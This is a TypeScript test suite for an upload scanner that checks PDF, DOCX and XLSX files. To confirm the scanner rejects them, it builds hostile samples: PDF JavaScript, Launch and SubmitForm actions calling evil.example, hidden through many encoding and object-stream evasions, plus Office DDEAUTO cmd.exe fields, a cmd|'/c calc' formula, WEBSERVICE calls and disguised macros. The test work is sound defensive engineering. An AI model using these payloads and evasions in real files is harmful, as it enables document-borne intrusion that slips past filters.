import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { examine } from "../../../src/platform/uploads/examine/examine";
import { pdf } from "./samples";
import { docx, xlsx, type ZipEntry, zip } from "./zip";

const PDF = "application/pdf";
const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/** What a PDF may not have, as one object; `/S` and the like can be hidden as any name can. */
const PAYLOADS = {
  "a script": "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
  "a script by its text alone": "<< /JS 7 0 R >>",
  "a program": "<< /S /Launch /F (cmd.exe) >>",
  "an XFA form": "<< /AcroForm << /XFA 9 0 R >> >>",
  "a file within": "<< /Type /F /EF << /F 8 0 R >> >>",
  "a tree of files": "<< /Names << /EmbeddedFiles 8 0 R >> >>",
  "another file on a machine": "<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>",
  "a file within to go to": "<< /S /GoToE /T << >> >>",
  "a form that is sent": "<< /S /SubmitForm /F (http://evil.example) >>",
  "a form that is filled": "<< /S /ImportData /F (x.fdf) >>",
  "a film": "<< /Subtype /RichMedia >>",
  "an address at the start": "<< /Type /Catalog /OpenAction << /S /URI /URI (http://evil.example) >> >>",
  "an address behind a page": "<< /OpenAction << /S /GoTo /D [5 0 R] /Next << /S /URI /URI (http://x) >> >> >>",
  "an address of a page": "<< /Type /Page /AA << /O << /S /URI /URI (http://evil.example) >> >> >>",
};

const packed = (bytes: Buffer): string => bytes.toString("latin1");
const stream = (dictionary: string, data: string): string => `<< ${dictionary} >>\nstream\n${data}\nendstream`;
const FIRST = "/N 2 /First 8";
const inStream = (payload: string, dictionary = `/Type /ObjStm ${FIRST} /Filter /FlateDecode`): string =>
  stream(dictionary, packed(deflateSync(objects(payload))));
/** Two objects of a stream: a text, then what is hidden. */
const objects = (payload: string): Buffer => Buffer.from(`4 0 5 4 (x) ${payload}`, "latin1");

const hex = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString("hex")}>`);

function base85(bytes: Buffer): Buffer {
  let text = "";
  for (let at = 0; at < bytes.length; at += 4) {
    const part = Buffer.concat([bytes.subarray(at, at + 4), Buffer.alloc(4)]).subarray(0, 4);
    let value = part.readUInt32BE();
    const digits = Array.from({ length: 5 }, () => {
      const digit = value % 85;
      value = Math.floor(value / 85);
      return String.fromCharCode(digit + 33);
    }).reverse();
    text += digits.slice(0, Math.min(4, bytes.length - at) + 1).join("");
  }
  return Buffer.from(`${text}~>`);
}

const runs = (bytes: Buffer): Buffer =>
  Buffer.concat([...bytes].map((byte) => Buffer.from([0, byte])).concat(Buffer.from([128])));

/** LZW that begins again before its codes become wider. */
function lzw(bytes: Buffer): Buffer {
  const codes = [...bytes].flatMap((byte, at) => (at % 200 === 0 ? [256, byte] : [byte])).concat(257);
  const bits = codes.map((code) => code.toString(2).padStart(9, "0")).join("");
  return Buffer.from((bits.match(/.{1,8}/g) ?? []).map((octet) => Number.parseInt(octet.padEnd(8, "0"), 2)));
}

const filtered = (payload: string, filters: string, pack: (bytes: Buffer) => Buffer): string =>
  stream(`/Type /ObjStm ${FIRST} /Filter ${filters}`, packed(pack(objects(payload))));

const escaped = (payload: string): string =>
  payload.replaceAll(/\/([A-Za-z]{2,})/g, (_, name: string) => {
    const [first = "", ...others] = name;
    return `/#${first.charCodeAt(0).toString(16)}${others.join("")}`;
  });

/** Ways to hide an object from a check, of which readers take each. */
const DISGUISES: Readonly<Record<string, (payload: string) => Buffer>> = {
  plainly: (payload) => pdf([payload]),
  "with escapes in its names": (payload) => pdf([escaped(payload)]),
  "with comments": (payload) => pdf([payload.replaceAll("<<", "<<%>>\n")]),
  "behind a text that ends an object": (payload) => pdf([`[(endobj 1 0 obj) ${payload}]`]),
  "in the trailer": (payload) => pdf(undefined, `/Info ${payload}`),
  "in a comment that the table leads to": (payload) => pdf([`null % 8 0 obj ${payload} endobj\n`]),
  "in a text that the table leads to": (payload) => pdf([`(8 0 obj ${payload} endobj)`]),
  "in the data of a stream": (payload) => pdf([stream("/Length 99", `8 0 obj ${payload} endobj`)]),
  "in an object stream": (payload) => pdf([inStream(payload)]),
  "in one with escapes": (payload) =>
    pdf([inStream(escaped(payload), "/#54ype /Obj#53tm /N 2 /#46irst 8 /Filter /Fl")]),
  "in one whose dictionary has a text like an object": (payload) =>
    pdf([inStream(payload, `/Type /ObjStm /A (1 0 obj) ${FIRST} /Filter /FlateDecode`)]),
  "in one without a type": (payload) => pdf([inStream(payload, `${FIRST} /Filter /FlateDecode`)]),
  "in one whose type is elsewhere": (payload) => pdf([inStream(payload, `/Type 9 0 R ${FIRST} /Filter /FlateDecode`)]),
  "in one that is not packed": (payload) => pdf([filtered(payload, "[]", (bytes) => bytes)]),
  "in one of digits": (payload) => pdf([filtered(payload, "/ASCIIHexDecode", hex)]),
  "in one of letters": (payload) => pdf([filtered(payload, "[/A85]", base85)]),
  "in one of runs": (payload) => pdf([filtered(payload, "/RunLengthDecode", runs)]),
  "in one by LZW": (payload) => pdf([filtered(payload, "/LZWDecode", lzw)]),
  "in one packed twice": (payload) =>
    pdf([filtered(payload, "[/ASCII85Decode /FlateDecode]", (bytes) => base85(deflateSync(bytes)))]),
  "in one with a text that ends it": (payload) => {
    const text = "(endstream endobj)";
    const data = deflateSync(Buffer.from(`4 0 5 ${text.length} ${text}${payload}`, "latin1"), { level: 0 });
    return pdf([stream("/N 2 /First 9 /Filter /FlateDecode", packed(data))]);
  },
  "behind a place within a text": (payload) =>
    pdf([stream(`/N 2 /First 8 /Filter /FlateDecode`, packed(deflateSync(Buffer.from(`4 0 5 2 (x${payload}`))))]),
};

const CASES = Object.entries(PAYLOADS).flatMap(([what, payload]) =>
  Object.entries(DISGUISES).map(([how, disguise]) => [what, how, disguise(payload)] as const),
);

/** Streams with objects that no check can read as a reader would. */
const UNREADABLE: readonly (readonly [string, string])[] = [
  ["a filter named elsewhere", inStream("null", `${FIRST} /Filter 9 0 R`)],
  ["a filter for pictures", inStream("null", `${FIRST} /Filter /DCTDecode`)],
  ["two filters of one name", inStream("null", `${FIRST} /Filter /FlateDecode /Filter /LZWDecode`)],
  ["a predictor", inStream("null", `${FIRST} /Filter /FlateDecode /DecodeParms << /Predictor 12 >>`)],
  ["a place that is written elsewhere", inStream("null", "/N 2 /First 9 0 R /Filter /FlateDecode")],
  ["an action at the start that is nowhere", "<< /OpenAction 99 0 R >>"],
];

describe("a PDF", () => {
  it("is disguised in more than fifty ways", () => expect(CASES.length).toBeGreaterThan(250));

  it.each(CASES)("with %s %s is rejected", async (_what, _how, bytes) => {
    const found = await examine(bytes, PDF);
    expect(["contains_program", "refers_outside"]).toContain(found.ok ? "accepted" : found.reason);
  });

  it.each(UNREADABLE)("with %s is rejected", async (_, object) => {
    expect(await examine(pdf([object]), PDF)).toEqual({ ok: false, reason: "not_checked" });
  });

  it("that has its data in another file is rejected", async () => {
    const found = await examine(pdf([stream("/F (http://evil.example) /Length 1", "x")]), PDF);
    expect(found).toEqual({ ok: false, reason: "refers_outside" });
  });

  it.each([
    ["the same read again and again", "obj(".repeat(200_000)],
    ["values within values", `${"[".repeat(500)}null`],
  ])("that would take long to read, by %s, is rejected", async (_, object) => {
    expect(await examine(pdf([object]), PDF)).toEqual({ ok: false, reason: "not_checked" });
  });

  it.each([
    ["links", "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://pay.example) >> >>"],
    ["a page to begin with", "<< /Type /Catalog /OpenAction [5 0 R /FitH 700] >>"],
    ["a destination to begin with", "<< /OpenAction << /S /GoTo /D (start) >> >>"],
    ["words that are no names", "<< /Title (How to use /JS and /XFA) /JSX 1 /Names << >> >>"],
    ["pictures", stream("/Type /XObject /Subtype /Image /Filter /DCTDecode", "\xff\xd8")],
    ["compressed objects", inStream("<< /Type /Page /Title (/JS) >>")],
    [
      "old compressed objects",
      filtered("<< /Type /Page >>", "[/ASCII85Decode /LZWDecode]", (bytes) => base85(lzw(bytes))),
    ],
  ])("with %s is accepted", async (_, object) => {
    const found = await examine(pdf([object]), PDF);
    expect(found.ok || found.reason).toBe(true);
  });
});

const rels = (type: string, mode = "External", target = "http://evil.example"): string =>
  `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, "utf16le");
const part = (name: string, contents: string | Buffer): readonly ZipEntry[] => [{ name, contents }];
const SETTINGS = "word/_rels/settings.xml.rels";
const macros: ZipEntry = { name: "xl/vbaProject.bin", contents: "VBA" };
const run = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const field = (...texts: readonly string[]): string =>
  `<d>${run("begin")}${texts.map((text) => `<w:instrText>${text}</w:instrText>`).join("")}${run("end")}</d>`;
const cell = (formula: string): string => `<sheet><c><f>${formula}</f></c></sheet>`;

const OFFICE: readonly (readonly [string, readonly ZipEntry[]])[] = [
  ["a template from elsewhere", part(SETTINGS, rels("attachedTemplate"))],
  ["a template in UTF-16", part(SETTINGS, utf16(rels("attachedTemplate")))],
  ["a template in UTF-16 without a mark", part(SETTINGS, utf16(rels("attachedTemplate")).subarray(2))],
  [
    "a template in another encoding",
    part(SETTINGS, `<?xml version="1.0" encoding="UTF-7"?>${rels("attachedTemplate")}`),
  ],
  ["a template under a name in capitals", part("word/_rels/settings.xml.RELS", rels("attachedTemplate"))],
  ["a template with a mode in references", part(SETTINGS, rels("attachedTemplate", "&#69;xternal"))],
  ["a template with spaces in its mode", part(SETTINGS, rels("attachedTemplate", " external "))],
  ["a template that says it is inside", part(SETTINGS, rels("attachedTemplate", "Internal"))],
  ["a template on another machine", part(SETTINGS, rels("attachedTemplate", "Internal", "\\\\evil\\x.dotm"))],
  [
    "a template behind a prefix",
    part(SETTINGS, rels("attachedTemplate").replaceAll("Relationship ", "p:Relationship ")),
  ],
  ["a template behind an entity", part(SETTINGS, `<!DOCTYPE r [<!ENTITY e "x">]>${rels("attachedTemplate")}`)],
  ["a picture from elsewhere", part("word/_rels/document.xml.rels", rels("image"))],
  ["a subdocument from elsewhere", part("word/_rels/document.xml.rels", rels("subDocument"))],
  ["a list of addressees", part("word/_rels/settings.xml.rels", rels("mailMergeSource"))],
  ["a page as a part", part("word/_rels/document.xml.rels", rels("aFChunk", "Internal", "x.html"))],
  ["a field that starts a program", part("word/header1.xml", field("DDEAUTO c:\\\\windows\\\\cmd.exe"))],
  ["one in small letters", part("word/header1.xml", field(" dde cmd"))],
  ["one in pieces", part("word/header1.xml", field("D", "DEA", "UTO cmd"))],
  ["one in references", part("word/header1.xml", field("&#68;DE cmd"))],
  ["one in a section of text", part("word/header1.xml", field("D<![CDATA[DE]]> cmd"))],
  ["one within another", part("word/header1.xml", field("IF 1", `</w:instrText>${field("DDE x")}<w:instrText>`))],
  ["one behind another prefix", part("word/header1.xml", field("DDE cmd").replaceAll("w:", "z:"))],
  ["one in quotation marks", part("word/header1.xml", field('"DDE" cmd'))],
  ["one that does not end", part("word/header1.xml", `<d>${run("begin")}<w:instrText>DDE cmd</w:instrText></d>`)],
  ["one in short", part("word/header1.xml", '<d><w:fldSimple w:instr=" DDEAUTO cmd"/></d>')],
  ["one in short, in references", part("word/header1.xml", '<d><w:fldSimple w:instr="&#x44;DEAUTO cmd"/></d>')],
  ["one in a part of any name", part("word/other.dat", field("DDE cmd"))],
  ["a picture by a field", part("word/footer1.xml", field('INCLUDEPICTURE "http://evil.example/x.png" \\\\d'))],
  ["a text by a field", part("word/footnotes.xml", field("INCLUDETEXT x"))],
  ["a database by a field", part("word/footnotes.xml", field("DATABASE x"))],
  ["a link to another program", part("word/footnotes.xml", field("LINK Excel.Sheet x"))],
  ["a picture by its address", part("word/document2.xml", '<d><v:imagedata src="http://evil.example/x"/></d>')],
  ["a drawing that loads", part("word/media/x.svg", '<svg><image xlink:href="//evil.example/x"/></svg>')],
  ["a formula that starts a program", part("xl/worksheets/sheet1.xml", cell("cmd|'/c calc'!A1"))],
  ["a formula that loads", part("xl/worksheets/sheet1.xml", cell('_xlfn.WEBSERVICE("http://evil.example")'))],
  ["a formula with a picture", part("xl/worksheets/sheet1.xml", cell('_xlfn.IMAGE ("http://evil.example")'))],
  ["a name with a formula", part("xl/other.xml", '<w><definedName name="x">CALL("a","b")</definedName></w>')],
  [
    "a link to another program's data",
    part("xl/externalLinks/externalLink1.xml", '<e><ddeLink ddeService="cmd"/></e>'),
  ],
  ["another workbook's data", part("xl/externalLinks/_rels/externalLink1.xml.rels", rels("externalLinkPath"))],
  ["a connection to a database", part("xl/connections.xml", '<connections><connection id="1"/></connections>')],
  ["a workbook with macros within", part("word/embeddings/x.xlsm", xlsx(macros))],
  ["one under another name", part("word/embeddings/x.xlsx", xlsx(macros))],
  ["one two deep", part("word/embeddings/x.xlsx", xlsx({ name: "xl/embeddings/y.docx", contents: xlsx(macros) }))],
  ["an archive within", part("word/media/x.png", zip([{ name: "run.me", contents: "x" }]))],
  [
    "an archive four deep",
    part(
      "a.zip",
      [1, 2, 3, 4].reduce((inner) => xlsx({ name: "a.zip", contents: inner }), xlsx()),
    ),
  ],
  ["macros under another name", part("word/media/x.png", Buffer.from("d0cf11e0a1b11ae1", "hex"))],
  ["a program under another name", part("word/media/x.png", Buffer.from("MZ\x90\0"))],
  ["macros by a relation", part("word/_rels/document.xml.rels", rels("vbaProject", "Internal", "media/x.png"))],
  ["a control by a relation", part("word/_rels/document.xml.rels", rels("control", "Internal", "x.xml"))],
  ["a sheet of macros", part("xl/_rels/workbook.xml.rels", rels("xlMacrosheet", "Internal", "sheet9.xml"))],
  ["a page within", part("word/x.html", "<p/>")],
  ["a template with macros within", part("word/x.DOTM", "x")],
];

const types = (contents: string | Buffer): Buffer =>
  zip([
    { name: "[Content_Types].xml", contents },
    { name: "word/document.xml", contents: "<d/>" },
  ]);
const MACROS = '<Types><Override PartName="/x.png" ContentType="application/vnd.ms-office.vbaProject"/></Types>';

describe("an Office document", () => {
  it("is disguised in more than fifty ways", () => expect(OFFICE.length).toBeGreaterThan(50));

  it.each(OFFICE)("with %s is rejected", async (_, entries) => {
    expect((await examine(docx(...entries), DOCX)).ok).toBe(false);
    expect((await examine(xlsx(...entries), XLSX)).ok).toBe(false);
  });

  it.each([
    ["plain", MACROS],
    ["in UTF-16", utf16(MACROS)],
    ["in references", MACROS.replace("vba", "&#118;ba")],
    ["behind a prefix", MACROS.replaceAll("Override", "t:Override")],
  ])("whose list of types has macros, %s, is rejected", async (_, contents) => {
    expect((await examine(types(contents), DOCX)).ok).toBe(false);
  });

  it.each([
    ["a chart with its figures", part("word/embeddings/Microsoft_Excel_Sheet.xlsx", xlsx())],
    ["page numbers and a table of contents", part("word/footer1.xml", field("PAGE", ' HYPERLINK "link"'))],
    ["a field that names a link", part("word/footer1.xml", field("REF link \\h"))],
    ["a formula of two texts", part("xl/worksheets/sheet1.xml", cell('"a|b"&amp;SUM(A1:B2)&amp;RECALL(1)'))],
    ["a picture", part("word/media/image1.png", Buffer.from("\x89PNG\r\n", "latin1"))],
    ["a mark of its encoding", part("word/styles.xml", '\ufeff<?xml version="1.0" encoding="UTF-8"?><s>é</s>')],
    ["styles of a chart", part("word/charts/style1.xml", '<cs:chartStyle xmlns:cs="http://x" id="201"/>')],
  ])("with %s is accepted", async (_, entries) => {
    for (const [bytes, type] of [
      [docx(...entries), DOCX],
      [xlsx(...entries), XLSX],
    ] as const) {
      const found = await examine(bytes, type);
      expect(found.ok || found.reason).toBe(true);
    }
  });
});
